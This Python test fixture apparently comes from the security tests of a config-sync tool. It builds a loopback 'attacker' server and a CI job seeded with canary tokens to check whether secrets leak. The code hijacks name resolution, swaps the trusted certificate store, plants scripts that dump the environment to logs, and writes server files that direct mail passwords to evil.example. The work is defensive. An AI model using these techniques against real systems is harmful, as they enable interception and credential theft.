"""
A host that takes whatever it is given, and a job that an attacker's pull request runs in.

Every name that is not this machine's leads to the one port of the attacker, which
speaks TLS under certificates of its own authority, SMTP, a proxy's CONNECT, and HTTP
with an answer for everything. Whatever it reads is kept, in clear.
"""

from __future__ import annotations

import json
import os
import re
import selectors
import socket
import ssl
import threading
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, Self

import certifi
import trustme
from canary import leaks
from rig import TIMEOUT_S, FarEnd, run_process

from icesync.bootstrap import SystemClock
from icesync.emulator.service import Service

if TYPE_CHECKING:
    from collections.abc import Mapping

    from rig import Result

    from icesync.emulator.aspnet import Request
    from icesync.emulator.storage import Storage
    from icesync.wire.reply import Reply

NAMES: Final = ("www.enterice.com", "*.vault.azure.net", "api.github.com", "gitlab.com")
"""For these the attacker has certificates by an authority of its own, which nobody knows."""

OWN_NAMES: Final = ("evil.example", "*.evil.example")
"""For these it has certificates that everybody believes."""

KEY: Final = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="

CANARIES: Final = {
    "ICE_59_663_SMTP": "canary-smtp-of-663",
    "ICE_59_663_IMAP": "canary-imap-of-663",
    "ICESYNC_FINGERPRINT_KEY": KEY,
    "ICESYNC_STATE_PASSWORD": "canary-of-the-state",
    "TF_HTTP_PASSWORD": "canary-of-terraform",
    "GITHUB_TOKEN": "ghs_canaryOfGitHub00",
    "CI_JOB_TOKEN": "glcbt-canary-of-gitlab",
    "ICESYNC_GITLAB_TOKEN": "glpat-canary-of-gitlab",
    "VAULT_TOKEN": "hvs.canaryOfVault00",
    "AZURE_CLIENT_SECRET": "canary-of-azure",
    "AWS_SECRET_ACCESS_KEY": "canary-of-aws-secret",
    "AWS_SESSION_TOKEN": "canary-of-aws-session",
    "OP_SERVICE_ACCOUNT_TOKEN": "ops_canaryOf1Password",
    "SOPS_AGE_KEY": "AGE-SECRET-KEY-CANARY",
}
"""What a job may hold, each by the variable that holds it."""

_SITE: Final = '''\
"""Lead every name and number that is not this machine's to the attacker."""
import os, socket
import certifi
certifi.where = lambda: os.environ["BELIEVED"]
_real = socket.getaddrinfo
def getaddrinfo(host, port, *rest, **named):
    name = host.decode() if isinstance(host, bytes) else host
    if name in (None, "", "localhost", "::1") or str(name).startswith("127."):
        return _real(host, port, *rest, **named)
    with open(os.environ["ATTACKER_LOG"], "a") as log:
        log.write(f"{name}:{port}\\n")
    return _real("127.0.0.1", int(os.environ["ATTACKER_PORT"]), *rest, **named)
socket.getaddrinfo = getaddrinfo
'''

_TRAP: Final = """\
#!/bin/sh
{ echo "$0 $*"; env; } >> "FOLDER/trap-${0##*/}.log"
exit 1
"""
"""A program that a reference or a sealed file could start: it keeps all that it is given."""

_PROGRAMS: Final = {"sops": ("SOPS_AGE_KEY",), "op": ("OP_SERVICE_ACCOUNT_TOKEN",), "vault": ()}
"""Those programs, and the credentials that each may have: its own."""


class Attacker:
    """Listens on one port of loopback; *heard* is every byte that it read, *names* whom it was."""

    def __init__(self, folder: Path) -> None:
        self.heard = bytearray()
        self._authority = trustme.CA()
        self.authority = folder / "attacker-ca.pem"
        self._authority.cert_pem.write_to_path(str(self.authority))
        believed = trustme.CA()
        self.believed = folder / "public-ca.pem"
        everybody = Path(certifi.where()).read_bytes()
        self.believed.write_bytes(everybody + believed.cert_pem.bytes())
        own = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        believed.issue_cert(*OWN_NAMES).configure_cert(own)
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._authority.issue_cert(*NAMES).configure_cert(self._context)

        def choose(connection: ssl.SSLSocket | ssl.SSLObject, name: str | None, _: Any) -> None:
            if name is None or name.endswith("evil.example"):
                connection.context = own

        self._context.sni_callback = choose
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self._threads: list[threading.Thread] = []

    def __enter__(self) -> Self:
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *raised: object) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(TIMEOUT_S)
        for thread in self._threads:
            thread.join(TIMEOUT_S)

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                connection.settimeout(5)
                thread = threading.Thread(target=self._serve, args=(connection,), daemon=True)
                self._threads.append(thread)
                thread.start()

    def _serve(self, connection: socket.socket) -> None:
        with suppress(OSError), connection:
            self._speak(connection)

    def _speak(self, connection: socket.socket) -> None:
        secure = isinstance(connection, ssl.SSLSocket)
        if not secure and _says_hello(connection):
            with self._context.wrap_socket(connection, server_side=True) as inside:
                self._speak(inside)
            return
        connection.settimeout(0.5)
        try:
            data = self._read(connection)
        except TimeoutError:  # it waits for a greeting
            data = b""
        connection.settimeout(5)
        if data:
            self._speak_http(connection, data)
        else:
            connection.sendall(b"220 mx.evil.example ESMTP\r\n")
            self._speak_smtp(connection, secure=secure)

    def _read(self, connection: socket.socket) -> bytes:
        data = connection.recv(65_536)
        self.heard += data + b"\n"
        return data

    def _speak_http(self, connection: socket.socket, data: bytes) -> None:
        while data:
            if data.startswith(b"CONNECT "):
                connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
                self._speak(connection)
                return
            size = re.search(rb"(?i)content-length: *([0-9]+)", data)
            body = data.partition(b"\r\n\r\n")[2]
            while size and len(body) < int(size[1]) and (more := self._read(connection)):
                body += more
            answer = b'{"value": "x", "auth": {"client_token": "x"}, "data": {"data": {}}}'
            head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: "
            connection.sendall(head + str(len(answer)).encode() + b"\r\n\r\n" + answer)
            data = self._read(connection)

    def _speak_smtp(self, connection: socket.socket, *, secure: bool) -> None:
        while line := self._read(connection):
            word = line[:4].upper()
            if word == b"STAR" and not secure:
                connection.sendall(b"220 go ahead\r\n")
                with self._context.wrap_socket(connection, server_side=True) as inside:
                    self._speak_smtp(inside, secure=True)
                return
            offer = b"" if secure else b"250-STARTTLS\r\n"
            hello = b"250-mx\r\n" + offer + b"250 AUTH PLAIN LOGIN\r\n"
            answers = {b"EHLO": hello, b"AUTH": b"235 welcome\r\n", b"QUIT": b"221 bye\r\n"}
            connection.sendall(answers.get(word, b"250 ok\r\n"))


def _says_hello(connection: socket.socket) -> bool:
    """Return whether the client begins with TLS; one that waits for a greeting does not."""
    with selectors.DefaultSelector() as selector:
        selector.register(connection, selectors.EVENT_READ)
        return bool(selector.select(0.5)) and connection.recv(1, socket.MSG_PEEK) == b"\x16"


class Job:
    """A repository that was applied once, the credentials of its job, and ICE."""

    def __init__(self, folder: Path, attacker: Attacker, archive: Storage) -> None:
        self.root = folder / "repository"
        self.attacker = attacker
        self.calls: list[dict[str, Any]] = []
        self._service = Service(SystemClock(), archive)
        self._far_end = FarEnd(self._answer)
        self._folder = folder
        bin_ = folder / "bin"
        bin_.mkdir()
        for name in _PROGRAMS:
            (bin_ / name).write_text(_TRAP.replace("FOLDER", str(folder)))
            (bin_ / name).chmod(0o755)
        self.log = folder / "names.log"
        from rig import Ice

        token = Ice("", archive).token()
        self.canaries = {**CANARIES, "ICE_TOKEN": token}
        self.environ = {
            **self.canaries,
            "PATH": f"{bin_}{os.pathsep}{os.environ['PATH']}",
            "HOME": str(folder),
            "BELIEVED": str(attacker.believed),
            "ATTACKER_PORT": str(attacker.port), "ATTACKER_LOG": str(self.log),
            "TF_HTTP_USERNAME": "ci", "ICESYNC_STATE_USERNAME": "ci", "CI": "true",
            "VAULT_ADDR": "https://vault.corp.example:8200",
            "AWS_ACCESS_KEY_ID": "AKIACANARY", "AWS_REGION": "eu-west-1",
            "AZURE_CLIENT_ID": "c", "AZURE_TENANT_ID": "t",
        }  # fmt: skip

    def __enter__(self) -> Self:
        self._far_end.__enter__()
        (self.root / ".git").mkdir(parents=True)
        (self.root / "servers").mkdir()
        (self.root / "icesync.yaml").write_text(self.config())
        (self.root / "servers" / "59.yaml").write_text(SERVER)
        return self

    def __exit__(self, *raised: object) -> None:
        self._far_end.__exit__(*raised)

    def config(self, api: str = "", rest: str = "") -> str:
        """Return a configuration with more under ``api:`` and at the top."""
        return (
            f"version: 1\napi:\n  base_url: '{self._far_end.url}'\n  token: ref+env://ICE_TOKEN\n"
            f"  rate_per_s: 1000\n{api}"
            f"fingerprints: {{key: ref+env://ICESYNC_FINGERPRINT_KEY}}\n{rest}"
        )

    def write(self, files: Mapping[str, str]) -> None:
        """Write *files* of a pull request; ``->`` before a text makes a link to it."""
        for name, text in files.items():
            path = self.root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if text.startswith("->"):
                path.symlink_to(text[2:])
            else:
                path.write_text(text)

    def run(self, *arguments: str, without: str = "") -> Result:
        """Run the program as the job does; *without* is code that takes a check away."""
        prepare = f"{_SITE}\n{without}"
        return run_process(arguments, self.root, self.environ, prepare=prepare)

    def _answer(self, request: Request) -> Reply:
        if request.path.endswith("UpdateEmailServer"):
            self.calls.append(json.loads(request.body))
        return self._service.answer(request)

    @property
    def stolen(self) -> list[str]:
        """What the attacker got: by connections, by programs, and by what ICE was told to use."""
        heard = bytes(self.attacker.heard)
        found = [f"{name} heard" for name, text in self.canaries.items() if leaks(text, heard)]
        for program, own in _PROGRAMS.items():
            log = self._folder / f"trap-{program}.log"
            given = log.read_bytes() if log.exists() else b""
            others = {n: text for n, text in self.canaries.items() if n not in own}
            found += [f"{n} given to {program}" for n, text in others.items() if leaks(text, given)]
        for call in self.calls:
            for protocol in ("SMTP", "Pop3", "Imap"):
                host = str(call.get(f"{protocol}ServerAddress"))
                given = str(call.get(f"{protocol}Password"))
                if host in HOSTS:
                    continue
                names = [n for n, text in self.canaries.items() if leaks(text, given.encode())]
                found += [f"{name} for {host}" for name in names]
        return found


HOSTS: Final = frozenset({"smtp.example.org", "imap.example.org", "None", ""})
"""Where the passwords of the repository went before anybody proposed anything."""


def server(skill: int, smtp: str, imap: str | None = None, host: str = "mx.evil.example",
           organization: int = 60, port: int = 465, ssl_: str = "true") -> str:  # fmt: skip
    """Return a server file whose mail goes to the attacker, with these references."""
    tls = "false" if ssl_ == "true" else "true"
    return (
        f"version: 1\norganization: {organization}\nservers:\n  - skill: {skill}\n"
        "    status: Enabled\n    active: true\n    incoming: imap\n"
        f"    ssl: {ssl_}\n    tls: {tls}\n"
        f"    smtp: {{host: {host}, port: {port}, username: x, mailbox: x@evil.example, "
        f"poll_rate: 10, password: '{smtp}'}}\n"
        f"    imap: {{host: {host}, port: 993, username: x, mailbox: x@evil.example, "
        f"poll_rate: 10, password: '{imap or smtp}'}}\n"
    )


SERVER: Final = (
    server(663, "ref+env://ICE_59_663_SMTP", "ref+env://ICE_59_663_IMAP", "HOST", 59)
    .replace("HOST", "smtp.example.org", 1)
    .replace("HOST", "imap.example.org", 1)
)
